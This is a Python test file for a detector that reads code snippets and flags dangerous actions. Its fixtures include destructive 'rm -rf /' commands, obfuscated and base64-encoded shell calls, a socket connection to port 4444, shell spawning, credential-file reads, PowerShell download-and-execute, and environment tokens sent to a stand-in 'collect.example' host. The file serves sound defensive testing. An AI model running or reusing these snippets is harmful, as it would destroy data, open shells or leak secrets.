"""What code snippets do, read from Python's syntax tree and from the APIs other languages call."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lighthouse_mcp.validation.code_actions import (
    _PYTHON_WORDS,
    Action,
    javascript_actions,
    perl_actions,
    php_actions,
    powershell_actions,
    python_actions,
    python_may_act,
    ruby_actions,
)


def kinds(actions: list[Action] | None) -> set[tuple[str, str]]:
    assert actions is not None
    return {(a.kind, a.value) for a in actions}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os; os.system('rm -rf /')", ("shell", "rm -rf /")),
        ("import os as o; o.popen('ls')", ("shell", "ls")),
        ("from os import system as s; s('id')", ("shell", "id")),
        ("import subprocess; subprocess.run(['rm', '-rf', '/tmp/x'])", ("shell", "rm -rf /tmp/x")),
        ("import subprocess as sp; sp.check_output('whoami', shell=True)", ("shell", "whoami")),
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('curl x | sh')", ("shell", "curl x | sh")),
        ("__import__('importlib').import_module('os').system('id')", ("shell", "id")),
        ("exec('import os; os.system(\"id\")')", ("shell", "id")),
        ("cmd = 'rm ' + '-rf /'; import os; os.system(cmd)", ("shell", "rm -rf /")),
        ("import os; os.execvp('rm', ['rm', '-rf', '/'])", ("shell", "rm -rf /")),
        ("import shutil; shutil.rmtree('/home/dev')", ("delete", "/home/dev")),
        ("import os; os.remove('x.txt')", ("delete", "x.txt")),
        ("from pathlib import Path; Path('/etc/passwd').unlink()", ("delete", "/etc/passwd")),
        ("open('/etc/hosts', 'w').write('x')", ("write", "/etc/hosts")),
        ("import os; open(os.path.expanduser('~/.aws/credentials')).read()", ("read", "~/.aws/credentials")),
        ("import socket; s = socket.socket(); s.connect(('203.0.113.7', 4444))", ("connect", "203.0.113.7")),
        ("import pty; pty.spawn('/bin/sh')", ("spawn-shell", "/bin/sh")),
        ("import pickle, requests; pickle.loads(requests.get(u).content)", ("deserialize", "")),
    ],
)
def test_python(source: str, expected: tuple[str, str]) -> None:
    assert expected in kinds(python_actions(source))


def test_python_decodes_literal_base64_before_judging() -> None:
    source = "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk=').decode())"
    assert ("shell", "rm -rf /") in kinds(python_actions(source))


def test_python_flags_exec_of_unknown_data() -> None:
    actions = python_actions("import zlib, base64\nexec(zlib.decompress(base64.b64decode(PAYLOAD)))")
    assert any(a.kind == "eval-dynamic" and "decoded" in a.detail for a in actions or [])
    downloaded = python_actions("import urllib.request as u\nexec(u.urlopen('http://x').read())")
    assert any(a.kind == "eval-dynamic" and "downloaded" in a.detail for a in downloaded or [])


def test_python_recursive_glob_delete_is_recursive() -> None:
    source = "import glob, os\nfor p in glob.glob(os.path.expanduser('~/**/*'), recursive=True):\n    os.remove(p)"
    deletes = [a for a in python_actions(source) or [] if a.kind == "delete"]
    assert deletes and deletes[0].value == "~/**/*" and deletes[0].recursive


@pytest.mark.parametrize(
    "source",
    [
        "print('hello')",
        "import os\nprint(os.getcwd())",
        "x = eval",
        "obj.eval(1)",
        "import subprocess\nsubprocess.run(['ls', '-la'], check=True)",
    ],
)
def test_python_harmless_code_has_no_dangerous_actions(source: str) -> None:
    dangerous = {"delete", "spawn-shell", "connect", "eval-dynamic", "exec-dynamic", "send"}
    assert not {a.kind for a in python_actions(source) or []} & dangerous


def test_python_syntax_error_is_none() -> None:
    assert python_actions("def (:") is None


def test_javascript() -> None:
    assert ("shell", "rm -rf /") in kinds(javascript_actions("require('child_process').execSync('rm -rf /')"))
    assert ("shell", "ls -la") in kinds(javascript_actions("spawn('ls', ['-la'])"))
    deletes = [a for a in javascript_actions("fs.rmSync('/x', {recursive: true})") if a.kind == "delete"]
    assert deletes[0].recursive
    assert ("read", "~/.ssh/id_rsa") in kinds(javascript_actions("path.join(os.homedir(), '.ssh/id_rsa')"))
    assert any(a.kind == "exec-dynamic" for a in javascript_actions("execSync(process.argv[2])"))


def test_perl_ruby_php_powershell() -> None:
    assert ("shell", "rm -rf /") in kinds(perl_actions("system('rm -rf /')"))
    assert ("shell", "id") in kinds(perl_actions("my $x = `id`;"))
    assert ("shell", "id") in kinds(ruby_actions("%x{id}"))
    assert ("delete", "/x") in kinds(ruby_actions("FileUtils.rm_rf('/x')"))
    assert ("shell", "id") in kinds(php_actions("shell_exec('id');"))
    ps = powershell_actions("IEX (New-Object Net.WebClient).DownloadString('http://x')")
    assert {"network", "eval-dynamic"} <= {a.kind for a in ps}
    import base64

    encoded = base64.b64encode("Remove-Item -Recurse -Force C:\\".encode("utf-16-le")).decode()
    assert any(a.kind == "delete" and a.recursive for a in powershell_actions(f"-EncodedCommand {encoded}"))


def test_the_reader_skips_only_fields_that_never_hold_nodes() -> None:
    """The Python reader does not walk names, operators, flags and constants (`_LEAF_FIELDS`, `_LEAF_TYPES`): in
    every tree of this project's sources and of the standard library's `ast` and `inspect` modules, they hold no node
    with fields, so the walk reaches every node `NodeVisitor` would."""
    import ast
    import inspect as inspect_module
    from pathlib import Path

    from lighthouse_mcp.validation.code_actions import _LEAF_FIELDS, _LEAF_TYPES

    sources = [p.read_text() for p in sorted((Path(__file__).parents[2] / "lighthouse_mcp").rglob("*.py"))]
    sources += [Path(ast.__file__).read_text(), Path(inspect_module.__file__).read_text()]
    sources.append("match x:\n    case None | [1, *rest] | {'k': v, **kw} | P(a=1) as y:\n        pass\n")
    for source in sources:
        for node in ast.walk(ast.parse(source)):
            for field, value in ast.iter_fields(node):
                if field not in _LEAF_FIELDS and not isinstance(node, _LEAF_TYPES):
                    continue
                values = value if isinstance(value, list) else [value]
                assert not any(isinstance(v, ast.AST) and v._fields for v in values), (type(node).__name__, field)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(sorted(_PYTHON_WORDS)).map(lambda w: w[: len(w) // 2 + 1]), st.text(max_size=12)),
        max_size=8,
    ).map("".join)
)
def test_the_cheap_test_before_parsing_finds_every_word_anywhere(source: str) -> None:
    """`python_may_act` says yes exactly when one of the words is somewhere in the text, inside another word too
    (it stands in for reading the code, so it may never say no where a word is)."""
    assert python_may_act(source) == any(word in source for word in _PYTHON_WORDS)
    for word in _PYTHON_WORDS:
        assert python_may_act(f"x{word}y")


# Pieces of Python that read the environment in every way the reader follows, and others that only look alike.
_ENV_PIECES = [
    "import os\n",
    "from os import environ\n",
    "from os import environ as e\n",
    "from os import getenv as g\n",
    "import os as o\n",
    "m = __import__('o' + 's')\n",
    "k = os.environ['GITHUB_TOKEN']\n",
    "k = os.getenv('AWS_SECRET_ACCESS_KEY')\n",
    "k = environ.get('DB_PASSWORD', '')\n",
    "k = e['NPM_TOKEN']\n",
    "k = g('OPENAI_API_KEY')\n",
    "k = o.environ['STRIPE_SECRET']\n",
    "k = m.environ['GITHUB_TOKEN']\n",
    "k = getattr(os, 'env' + 'iron')['GITHUB_TOKEN']\n",
    "k = getattr(os, 'get' + 'env')('AWS_SECRET_ACCESS_KEY')\n",
    "k = os.ｅｎｖｉｒｏｎ['GITHUB_TOKEN']\n",
    "k = os.ｇｅｔｅｎｖ('DB_PASSWORD')\n",
    "v = k\n",
    "print(k)\n",
    "print(os.environ)\n",
    "d = dict(os.environ)\n",
    "import urllib.request\n",
    "urllib.request.urlopen('https://collect.example/?k=' + k)\n",
    "urllib.request.urlopen('https://collect.example/?k=' + v)\n",
    "import requests\n",
    "requests.post('https://collect.example/', data=v)\n",
    "requests.post('https://collect.example/', data=k)\n",
    "home = os.path.expanduser('~')\n",
    "x = {'environ': 1}['environ']\n",
    "k = 'token'\n",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_ENV_PIECES), min_size=1, max_size=7).map("".join))
def test_code_that_cannot_name_the_environment_is_read_as_if_it_could(source: str) -> None:
    """The reader skips looking for secret variables in code that cannot name the environment: what it finds is
    exactly what it finds when it always looks."""
    import ast

    from lighthouse_mcp.validation.code_actions import _PythonReader

    tree = ast.parse(source)
    always = _PythonReader(environment=True)
    always.visit(tree)
    always.whole_environment(tree)
    assert python_actions(source) == always.actions, source
